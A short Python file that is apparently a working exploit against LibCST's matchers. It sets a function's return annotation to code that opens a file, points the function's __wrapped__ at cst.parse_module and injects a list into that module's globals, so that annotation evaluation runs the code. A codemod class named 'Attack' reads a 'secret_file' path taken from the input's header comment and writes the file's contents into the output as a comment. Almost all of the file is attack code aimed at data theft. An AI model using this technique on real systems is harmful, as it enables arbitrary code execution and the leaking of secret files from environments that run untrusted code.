"""Have LibCST's matchers evaluate an annotation, which happens in the globals of what the function says it wraps."""

import ast

import libcst as cst
import libcst.matchers as m
from libcst.codemod import VisitorBasedCodemodCommand


def read(path):
    found = []

    @m.leave(m.Name())
    def leave(self, original_node, updated_node):
        return updated_node

    leave.__annotations__ = {"return": f"found.append(open({path!r}).read().strip())"}
    leave.__wrapped__ = cst.parse_module
    cst.parse_module.__globals__["found"] = found
    victim = type("Victim", (m.MatcherDecoratableTransformer,), {"leave_it": leave})
    try:
        victim()
    except Exception:
        pass
    return found[0]


class Attack(VisitorBasedCodemodCommand):
    DESCRIPTION = "Loot by an annotation."

    def transform_module_impl(self, tree):
        target = ast.literal_eval(tree.header[0].comment.value[1:].strip())
        loot = read(target["secret_file"])
        return tree.with_changes(footer=[*tree.footer, cst.EmptyLine(comment=cst.Comment(f"# {loot}"))])
